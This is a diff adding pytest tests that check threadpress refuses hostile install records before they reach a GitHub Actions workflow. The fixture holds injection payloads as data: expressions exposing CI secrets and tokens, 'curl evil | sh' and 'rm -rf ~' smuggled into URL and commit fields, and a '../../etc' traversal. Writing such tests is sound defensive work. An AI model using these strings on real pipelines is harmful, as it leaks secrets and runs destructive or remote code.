@@ -633,3 +633,43 @@ def test_the_workflow_keeps_the_build_state_and_output_but_never_the_secret(new_
     prefix = f"threadpress-${{{{ {files} }}}}-"
     assert cache["with"]["key"] == prefix + "${{ github.sha }}"
     assert cache["with"]["restore-keys"].splitlines() == [prefix]
+
+
+HOSTILE_RECORDS = {
+    "expression in the url": {"url": "https://x.example/${{ secrets.THREADPRESS_SECRET }}.git",
+                              "vcs_info": {"vcs": "git", "commit_id": "a" * 40}},
+    "newline in the url": {"url": "https://x.example/r.git\nrun: curl evil", "vcs_info": {
+        "vcs": "git", "commit_id": "a" * 40}},
+    "quote in the url": {"url": 'https://x.example/"; rm -rf ~; "', "vcs_info": {
+        "vcs": "git", "commit_id": "a" * 40}},
+    "a commit that is a command": {"url": "https://x.example/r.git", "vcs_info": {
+        "vcs": "git", "commit_id": "main; curl evil | sh"}},
+    "a commit with an expression": {"url": "https://x.example/r.git", "vcs_info": {
+        "vcs": "git", "commit_id": "${{ github.token }}"}},
+    "a list as subdirectory": {"url": "https://x.example/r.git", "subdirectory": ["a", "b"],
+                               "vcs_info": {"vcs": "git", "commit_id": "a" * 40}},
+    "a subdirectory leaving the repository": {
+        "url": "https://x.example/r.git", "subdirectory": "../../etc",
+        "vcs_info": {"vcs": "git", "commit_id": "a" * 40}},
+    "a hash that is not one": {"url": "https://x.example/t.whl",
+                               "archive_info": {"hashes": {"sha256": "zz\n; evil"}}},
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE_RECORDS))
+def test_a_hostile_install_record_is_refused_naming_it(case):
+    """Nothing from direct_url.json reaches the workflow unless it is plain text of its shape:
+    GitHub expands ${{ }} before the shell runs, so quoting could not make it safe."""
+    with pytest.raises(ThreadpressError) as raised:
+        install_mod.plan(HOSTILE_RECORDS[case], "0.1.0", "site-packages/x/direct_url.json")
+    [d] = raised.value.diagnostics
+    assert d.file == "site-packages/x/direct_url.json" and "install record" in d.message
+
+
+def test_plain_records_still_pin():
+    ok = install_mod.plan({"url": "https://github.com/threadpress/threadpress",
+                           "subdirectory": "pkg/sub", "vcs_info": {
+                               "vcs": "git", "commit_id": "0123456789abcdef" * 2 + "01234567"}},
+                          "0.1.0")
+    assert ok.requirement == ("threadpress @ git+https://github.com/threadpress/threadpress@"
+                              + "0123456789abcdef" * 2 + "01234567#subdirectory=pkg/sub")
